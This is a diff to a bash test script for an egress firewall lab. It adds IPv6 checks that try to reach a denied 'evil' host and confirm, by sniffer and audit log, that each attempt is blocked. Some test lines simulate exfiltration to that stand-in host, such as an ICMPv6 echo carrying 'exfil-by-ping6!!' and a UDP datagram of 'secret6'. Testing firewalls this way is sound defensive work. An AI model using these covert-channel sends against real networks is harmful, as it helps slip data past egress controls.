@@ -5,7 +5,11 @@
 # host on a port its rule does not list, ICMP echo to a denied address, fragmented UDP to a
 # denied address from outside the hooked cgroup (TC alone), a raw socket, and an AF_PACKET
 # sender asking for PACKET_QDISC_BYPASS: nothing arrives in the internet namespace (a sniffer
-# there), and each is logged. One PASS/FAIL line per check; exit 1 if any failed.
+# there), and each is logged. Then the same over IPv6: connect6 to a denied address (and to an
+# IPv4-mapped one) fails at once with EPERM, allowed.test works over IPv6 from its learned AAAA,
+# UDP to allowed.test's IPv6 address on an unlisted port is refused, a raw AF_INET6 socket is
+# refused, and from outside the hooked cgroup TC drops ICMPv6 echo and fragmented UDP to the
+# denied IPv6 address. One PASS/FAIL line per check; exit 1 if any failed.
 set -euo pipefail
 . "$(dirname "$0")/lab.sh"
 lab_require_root
@@ -17,9 +21,12 @@ lab_setup
 
 PCAP=$LAB/inet.pcap
 SNIFF_PID=
+# IPv6 too, without what the link itself needs: multicast (ND to solicited-node groups, MLD)
+# and neighbour discovery to unicast addresses (ICMPv6 types 133-137 right after the header).
+SNIFF_FILTER="not arp and not ip6 multicast and not (icmp6 and ip6[40] >= 133 and ip6[40] <= 137)"
 sniff_start() {
 	ip netns exec "$LAB_INET" tcpdump -i "$LAB_INET_IF" -n -U -w "$PCAP" \
-		"not arp and not ip6" >/dev/null 2>&1 &
+		"$SNIFF_FILTER" >/dev/null 2>&1 &
 	SNIFF_PID=$!
 	sleep 1
 }
@@ -74,6 +81,10 @@ else
 fi
 body=$(lab_workload timeout 5 curl -s -m 3 http://allowed.test/ 2>&1 || true)
 [ "$body" = allowed ] && lab_pass "allowed.test:80 works" || lab_fail "allowed.test:80: $body"
+# allowed.test has an AAAA too, which curl prefers: IPv4 explicitly, for the sniffer check below.
+body=$(lab_workload timeout 5 curl -4 -s -m 3 http://allowed.test/ 2>&1 || true)
+[ "$body" = allowed ] && lab_pass "allowed.test:80 works over IPv4 (curl -4)" ||
+	lab_fail "allowed.test:80 over IPv4: $body"
 out=$(py "
 import socket
 s = socket.socket(); s.settimeout(3)
@@ -178,6 +189,107 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 s.sendto(b'y' * 4000, ('$LAB_ALLOWED_IP', 6666))
 " >/dev/null 2>&1 || true
 
+echo "== IPv6: a denied connect6 fails at once with EPERM"
+out=$(py "
+import socket, time, errno
+s = socket.socket(socket.AF_INET6); s.settimeout(3); t = time.monotonic()
+try:
+    s.connect(('$LAB_EVIL_IP6', 80)); print('connected')
+except OSError as e:
+    print(errno.errorcode.get(e.errno, e.errno), round((time.monotonic() - t) * 1000, 1))
+")
+read -r err ms <<<"$out"
+if [ "$err" = EPERM ] && awk -v m="$ms" 'BEGIN { exit !(m < 100) }'; then
+	lab_pass "connect to [$LAB_EVIL_IP6]:80: EPERM after $ms ms"
+else
+	lab_fail "connect to [$LAB_EVIL_IP6]:80: want EPERM in < 100 ms, got: $out"
+fi
+# curl -v names the errno of the failed connect; -w gives curl's own elapsed time.
+out=$(lab_workload timeout 5 curl -6 -g -v -s -m 3 -o /dev/null -w 'time_total=%{time_total}\n' \
+	"http://[$LAB_EVIL_IP6]/" 2>&1 || true)
+secs=$(sed -n 's/^time_total=//p' <<<"$out")
+if grep -q "connect fail for $LAB_EVIL_IP6: Operation not permitted" <<<"$out" &&
+	awk -v t="$secs" 'BEGIN { exit !(t != "" && t < 0.1) }'; then
+	lab_pass "curl -6 http://[$LAB_EVIL_IP6]/: Operation not permitted after ${secs} s"
+else
+	lab_fail "curl -6 http://[$LAB_EVIL_IP6]/: want Operation not permitted in < 0.1 s, got: $(tr '\n' ' ' <<<"$out" | cut -c1-400)"
+fi
+out=$(lab_workload timeout 5 curl -6 -sS -m 3 -o "$LAB/allowed6.body" -w '%{remote_ip}' \
+	http://allowed.test/ 2>&1 || true)
+[ "$out" = "$LAB_ALLOWED_IP6" ] && [ "$(cat "$LAB/allowed6.body")" = allowed ] &&
+	lab_pass "curl -6 http://allowed.test/ works over IPv6 (learned AAAA $LAB_ALLOWED_IP6)" ||
+	lab_fail "curl -6 http://allowed.test/: $out $(head -c 80 "$LAB/allowed6.body" 2>/dev/null)"
+out=$(py "
+import socket
+s = socket.socket(socket.AF_INET6); s.settimeout(3)
+try:
+    s.connect(('$LAB_ALLOWED_IP6', 8080)); print('connected')
+except OSError as e:
+    print(e.errno)
+")
+[ "$out" = 1 ] && lab_pass "[$LAB_ALLOWED_IP6]:8080/tcp (not in the rule): EPERM" ||
+	lab_fail "[$LAB_ALLOWED_IP6]:8080/tcp: $out"
+out=$(py "
+import socket
+s = socket.socket(socket.AF_INET6); s.settimeout(3)
+try:
+    s.connect(('::ffff:$LAB_EVIL_IP', 80)); print('connected')
+except OSError as e:
+    print(e.errno)
+")
+[ "$out" = 1 ] && lab_pass "AF_INET6 connect to ::ffff:$LAB_EVIL_IP (IPv4-mapped): EPERM" ||
+	lab_fail "AF_INET6 connect to ::ffff:$LAB_EVIL_IP: $out"
+
+echo "== IPv6: UDP to the allowed host on a port its rule does not list"
+out=$(py "
+import socket
+s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+try:
+    s.sendto(b'secret6', ('$LAB_ALLOWED_IP6', 9999)); print('sent')
+except OSError as e:
+    print(e.errno)
+")
+[ "$out" = 1 ] && lab_pass "sendto [$LAB_ALLOWED_IP6]:9999/udp: EPERM" || lab_fail "udp6 9999: $out"
+
+echo "== IPv6: a raw socket; ICMPv6 echo and fragmented UDP from outside the hooked cgroup (TC)"
+out=$(py "
+import socket
+try:
+    socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6); print('created')
+except OSError as e:
+    print(e.errno)
+")
+[ "$out" = 1 ] && lab_pass "raw AF_INET6 socket in the cgroup: EPERM" ||
+	lab_fail "raw AF_INET6 socket: $out"
+# The kernel fills in the ICMPv6 checksum of a raw ICMPv6 socket.
+out=$(lab_runner timeout 5 "$LAB_PYTHON" -c "
+import socket, time
+s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6); s.settimeout(0.2)
+end = time.monotonic() + 1
+try:
+    s.sendto(bytes([128, 0, 0, 0, 0, 7, 0, 1]) + b'exfil-by-ping6!!', ('$LAB_EVIL_IP6', 0))
+except OSError as e:
+    print('noreply', e.errno); raise SystemExit
+while time.monotonic() < end: # other ICMPv6 (neighbour discovery) arrives here too
+    try:
+        if s.recv(200)[0] == 129:
+            print('reply'); break
+    except TimeoutError:
+        pass
+else:
+    print('noreply timeout')
+" 2>&1 || true)
+case $out in
+noreply*) lab_pass "ICMPv6 echo to $LAB_EVIL_IP6 outside the cgroup: no reply ($out)" ;;
+*) lab_fail "ICMPv6 echo to $LAB_EVIL_IP6 outside the cgroup: $out" ;;
+esac
+# 4000 bytes over a 1500-byte link: a Fragment extension header on every piece.
+lab_runner timeout 5 "$LAB_PYTHON" -c "
+import socket
+s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+s.sendto(b'z' * 4000, ('$LAB_EVIL_IP6', 6666))
+" >/dev/null 2>&1 || true
+
 sleep 1
 sniff_stop
 n=$(sniffed "dst host $LAB_EVIL_IP")
@@ -189,6 +301,16 @@ n=$(sniffed "dst host $LAB_ALLOWED_IP and udp")
 n=$(sniffed "dst host $LAB_ALLOWED_IP and tcp port 80")
 [ "$n" -gt 0 ] && lab_pass "sniffer: the allowed HTTP traffic did arrive ($n packets)" ||
 	lab_fail "sniffer saw no allowed traffic: the capture itself is broken"
+n=$(sniffed "dst host $LAB_EVIL_IP6")
+[ "$n" -eq 0 ] && lab_pass "sniffer: nothing reached $LAB_EVIL_IP6" ||
+	lab_fail "sniffer: $n packet(s) reached $LAB_EVIL_IP6: $(tcpdump -n -r "$PCAP" \
+		"dst host $LAB_EVIL_IP6" 2>/dev/null | head -3)"
+n=$(sniffed "dst host $LAB_ALLOWED_IP6 and udp")
+[ "$n" -eq 0 ] && lab_pass "sniffer: no UDP reached $LAB_ALLOWED_IP6 (its rule is tcp/80)" ||
+	lab_fail "sniffer: $n UDP packet(s) reached $LAB_ALLOWED_IP6"
+n=$(sniffed "dst host $LAB_ALLOWED_IP6 and tcp port 80")
+[ "$n" -gt 0 ] && lab_pass "sniffer: the allowed HTTP traffic over IPv6 did arrive ($n packets)" ||
+	lab_fail "sniffer saw no allowed IPv6 traffic: the IPv6 capture is broken"
 
 echo "== each logged"
 lab_check "audit: connection_blocked $LAB_EVIL_IP:80 (connect4)" lab_audit_wait "$LAB_AUDIT" \
@@ -208,6 +330,25 @@ lab_check "audit: the packet-socket frame dropped at TC" lab_audit_wait "$LAB_AU
 	event_type=connection_blocked dst_ip="$LAB_EVIL_IP" dst_port=7777 hook=tc
 lab_check "audit: the fragmented datagram dropped at TC" lab_audit_wait "$LAB_AUDIT" \
 	event_type=connection_blocked dst_ip="$LAB_EVIL_IP" dst_port=6666 hook=tc
+
+lab_check "audit: connection_blocked [$LAB_EVIL_IP6]:80 (connect6)" lab_audit_wait "$LAB_AUDIT" \
+	event_type=connection_blocked dst_ip="$LAB_EVIL_IP6" dst_port=80 hook=connect6
+lab_check "audit: connection_blocked [$LAB_ALLOWED_IP6]:8080 (connect6)" lab_audit_wait \
+	"$LAB_AUDIT" event_type=connection_blocked dst_ip="$LAB_ALLOWED_IP6" dst_port=8080 \
+	hook=connect6
+# An IPv4-mapped destination is judged, and reported, as the IPv4 address it leaves as.
+lab_check "audit: connection_blocked ::ffff:$LAB_EVIL_IP as $LAB_EVIL_IP (connect6)" \
+	lab_audit_wait "$LAB_AUDIT" event_type=connection_blocked dst_ip="$LAB_EVIL_IP" dst_port=80 \
+	hook=connect6
+lab_check "audit: connection_blocked udp [$LAB_ALLOWED_IP6]:9999 (sendmsg6)" lab_audit_wait \
+	"$LAB_AUDIT" event_type=connection_blocked dst_ip="$LAB_ALLOWED_IP6" dst_port=9999 \
+	protocol=UDP hook=sendmsg6
+lab_check "audit: protocol_blocked raw AF_INET6 socket" lab_audit_wait "$LAB_AUDIT" \
+	event_type=protocol_blocked hook=sock_create socket=raw socket_family=inet6
+lab_check "audit: ICMPv6 to $LAB_EVIL_IP6 blocked at TC" lab_audit_wait "$LAB_AUDIT" \
+	event_type=connection_blocked dst_ip="$LAB_EVIL_IP6" protocol=ICMPv6 hook=tc
+lab_check "audit: the fragmented IPv6 datagram dropped at TC" lab_audit_wait "$LAB_AUDIT" \
+	event_type=connection_blocked dst_ip="$LAB_EVIL_IP6" dst_port=6666 hook=tc
 
 lab_check "cargowall stop" lab_cw stop
 lab_check "audit log: every line is JSON" lab_audit_validate "$LAB_AUDIT"
